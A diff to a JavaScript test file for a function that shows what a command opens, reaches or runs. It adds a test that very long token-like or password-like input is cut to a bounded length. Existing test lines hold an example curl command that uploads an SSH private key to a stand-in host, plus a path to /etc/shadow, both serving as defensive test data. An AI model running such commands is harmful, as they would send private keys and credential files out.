@@ -34,3 +34,8 @@ test("what a command opens, reaches or runs is shown, whatever word stands befor
   expect(shown({ command: "curl -T $SECRET collect.example", env: { SECRET: "id_ed25519" } })).toContain("id_ed25519");
   expect(shown({ path: "a", secret: "/etc/shadow" })).toContain("/etc/shadow");
 });
+
+test("takes the time of what is long, whatever is written there", () => {
+  for (const text of ["token=", "sk-a1", "password: ", " --token", "a://b:"])
+    expect(shown(`${text.repeat(60_000)}.`).length).toBeLessThan(17_000);
+});
